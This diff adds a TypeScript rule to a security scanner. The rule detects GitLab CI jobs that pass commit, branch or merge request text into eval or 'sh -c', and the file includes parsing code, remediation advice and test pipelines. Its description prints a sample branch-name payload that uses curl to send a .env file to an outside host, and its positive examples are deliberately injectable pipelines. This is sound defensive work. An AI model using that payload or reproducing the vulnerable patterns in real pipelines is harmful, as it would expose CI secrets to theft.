@@ -1,0 +1,137 @@
+import { detailNote, inside } from '../rule.js';
+import { inScript, lineAtOffset } from '../script-checks.js';
+import { basename, effectiveWords, parseShell, type ShellWord } from '../shell.js';
+import { gitlabRule, lineOf, pipeline, pipelineScripts } from './pipeline.js';
+
+/**
+ * Predefined variables whose text someone without access to the project's CI/CD settings
+ * writes: a commit message, a branch or tag name, a merge request's title. Git allows
+ * `$(...)`, `;` and quotes in branch and tag names. The slugs (CI_COMMIT_REF_SLUG) are
+ * reduced to [a-z0-9-] by GitLab and are not among them.
+ */
+const WRITTEN_BY: Record<string, string> = {
+  CI_COMMIT_MESSAGE: 'the commit message',
+  CI_COMMIT_TITLE: 'the commit message',
+  CI_COMMIT_DESCRIPTION: 'the commit message',
+  CI_COMMIT_AUTHOR: "the commit's author",
+  CI_COMMIT_BRANCH: 'the branch name',
+  CI_COMMIT_REF_NAME: 'the branch or tag name',
+  CI_COMMIT_TAG: 'the tag name',
+  CI_COMMIT_TAG_MESSAGE: 'the tag message',
+  CI_MERGE_REQUEST_TITLE: 'the merge request title',
+  CI_MERGE_REQUEST_DESCRIPTION: 'the merge request description',
+  CI_MERGE_REQUEST_SOURCE_BRANCH_NAME: "the merge request's source branch name",
+  CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME: "the pull request's source branch name",
+};
+
+/** Shells whose `-c` option runs its argument as a script, and su, which hands its `-c` argument to one. */
+const SHELLS = new Set(['sh', 'bash', 'dash', 'zsh', 'ksh', 'ash', 'mksh', 'su']);
+
+/**
+ * The variables a word expands directly, as written in the script from `offset`: `$NAME`
+ * and `${NAME...}` outside single quotes and not escaped. What a command substitution
+ * (`$(...)`, backticks) expands is the substitution's own argument, not part of the text.
+ */
+function directExpansions(script: string, offset: number): string[] {
+  const names: string[] = [];
+  let quote: "'" | '"' | undefined;
+  let depth = 0;
+  let backtick = false;
+  for (let i = offset; i < script.length; i++) {
+    const c = script[i]!;
+    if (quote === "'") {
+      if (c === "'") quote = undefined;
+      continue;
+    }
+    if (c === '\\') {
+      i++;
+      continue;
+    }
+    if (!quote && depth === 0 && !backtick && /[\s;&|<>()]/.test(c)) break;
+    if (c === "'" && !quote && depth === 0) quote = "'";
+    else if (c === '"' && depth === 0) quote = quote ? undefined : '"';
+    else if (c === '`') backtick = !backtick;
+    else if (c === '$' && script[i + 1] === '(') depth++, i++;
+    else if (c === ')' && depth > 0) depth--;
+    else if (c === '$' && depth === 0 && !backtick) {
+      const name = /^\$(?:\{([A-Za-z_]\w*)|([A-Za-z_]\w*))/.exec(script.slice(i, i + 80));
+      if (name) names.push(name[1] ?? name[2]!);
+    }
+  }
+  return names;
+}
+
+/**
+ * Words of a script that the shell reads again as code after expanding them: the arguments
+ * of `eval`, and the script of `sh -c '...'` (`bash -ec`, `su -c`, also after a wrapper
+ * such as `docker exec ctr` or `kubectl exec pod --`), each with the attacker-written
+ * variables it expands directly.
+ */
+function* injections(script: string): Generator<{ offset: number; name: string; sink: string }> {
+  for (const command of parseShell(script).flat()) {
+    const words = effectiveWords(command);
+    const reread: Array<{ word: ShellWord; sink: string }> = [];
+    if (basename(words[0]?.text ?? '') === 'eval') reread.push(...words.slice(1).map((word) => ({ word, sink: 'eval' })));
+    for (let k = 0; k < words.length; k++) {
+      const shell = basename(words[k]!.text);
+      if (!SHELLS.has(shell)) continue;
+      // The options up to the one that holds c (-c, -ec, -lc), then the script.
+      let option = k + 1;
+      const holdsC = (text: string) => /^-[a-z]*c[a-z]*$/i.test(text);
+      while (option < words.length && /^--?[a-z][\w-]*$/i.test(words[option]!.text) && !holdsC(words[option]!.text)) option++;
+      const script = holdsC(words[option]?.text ?? '') ? words[option + 1] : undefined;
+      if (script) reread.push({ word: script, sink: `${shell} -c` });
+    }
+    const reported = new Set<string>();
+    for (const { word, sink } of reread) {
+      for (const name of directExpansions(script, word.offset)) {
+        if (!(name in WRITTEN_BY) || reported.has(name)) continue;
+        reported.add(name);
+        yield { offset: word.offset, name, sink };
+      }
+    }
+  }
+}
+
+const scriptInjection = gitlabRule({
+  id: 'iac/gitlab-script-injection',
+  title: 'Commit or merge request text run as shell code in CI',
+  description:
+    'A job passes a predefined variable whose text a contributor writes (CI_COMMIT_MESSAGE, CI_COMMIT_BRANCH, CI_COMMIT_REF_NAME, CI_MERGE_REQUEST_TITLE, CI_MERGE_REQUEST_SOURCE_BRANCH_NAME...) to a command that reads it again as shell code: `eval`, or the script of `sh -c "..."` (bash, zsh, su -c, also through docker exec or kubectl exec). GitLab hands predefined variables to the job as environment variables, so `echo "$CI_COMMIT_MESSAGE"` only prints the text; but once expanded into the text that eval or sh -c parses, a commit message or branch name such as `x;curl${IFS}-d@.env${IFS}example.org` runs as a command, with the job\'s CI/CD variables. Git allows `$(...)`, `;` and quotes in branch and tag names. A variable inside single quotes or escaped (`sh -c \'echo "$CI_COMMIT_BRANCH"\'`) is expanded by the inner shell as data and is not reported. The shell scripts of the repository that a job runs (`- ./ci/build.sh`, `- bash ci/release.sh`) are read and judged too, on their own lines.',
+  remediation: 'Do not build shell code from these variables: run the command directly with the variable quoted (`deploy --branch "$CI_COMMIT_BRANCH"`), or pass it to the inner shell as an argument (`sh -c \'deploy --branch "$1"\' sh "$CI_COMMIT_BRANCH"`); use CI_COMMIT_REF_SLUG where a name must be safe.',
+  severity: 'high',
+  cwe: ['CWE-78', 'CWE-94'],
+  examples: {
+    positive: [
+      pipeline('deploy:\n  # expect\n  script:\n    - ./build.sh\n    # detail\n    - eval "deploy --branch $CI_COMMIT_BRANCH"\n'),
+      pipeline('notify:\n  # expect\n  script:\n    # detail\n    - docker exec app sh -c "notify \\"${CI_MERGE_REQUEST_TITLE}\\""\n'),
+      pipeline("release:\n  # expect\n  script:\n    # detail\n    - bash -ec 'git tag v1 -m '\"$CI_COMMIT_MESSAGE\"\n"),
+    ],
+    negative: [
+      pipeline(
+        "deploy:\n  script:\n    - echo \"Deploying $CI_COMMIT_BRANCH: $CI_COMMIT_MESSAGE\"\n    - deploy --branch \"$CI_COMMIT_BRANCH\"\n    - sh -c 'deploy --branch \"$1\"' sh \"$CI_COMMIT_BRANCH\"\n    - sh -c \"echo \\$CI_MERGE_REQUEST_TITLE\"\n    - eval \"$(ssh-agent -s)\"\n    - eval \"export TAG=$CI_COMMIT_REF_SLUG\"\n    - bash -c \"make deploy ENV=$DEPLOY_ENV\"\n    - grep -c $CI_COMMIT_BRANCH branches.txt\n",
+      ),
+    ],
+  },
+  *check(p) {
+    for (const { owner, scalar, text: script, keyLine } of pipelineScripts(p)) {
+      for (const { offset, name, sink } of injections(script)) {
+        const at = inside(keyLine, lineOf(p, scalar, offset));
+        yield { ...at, message: `${owner} expands $${name} into the code ${sink} runs${detailNote(at)}: whoever writes ${WRITTEN_BY[name]} can run commands in the job.`, resource: owner };
+      }
+    }
+  },
+  scripts: {
+    problem: 'ci-text-run-as-code',
+    examples: {
+      positive: ['#!/bin/sh\nset -eu\n# expect\neval "notify --title $CI_MERGE_REQUEST_TITLE"\n'],
+      negative: ['#!/bin/sh\nnotify --title "$CI_MERGE_REQUEST_TITLE"\nsh -c \'notify --title "$CI_MERGE_REQUEST_TITLE"\'\n'],
+    },
+    *check(script) {
+      for (const { offset, name, sink } of injections(script.text))
+        yield { line: lineAtOffset(script.text, offset), message: `$${name} is expanded into the code ${sink} runs${inScript(script)}: whoever writes ${WRITTEN_BY[name]} can run commands in the job.`, key: `${offset}\0${name}` };
+    },
+  },
+});
+
+export const injectionRules = [scriptInjection];
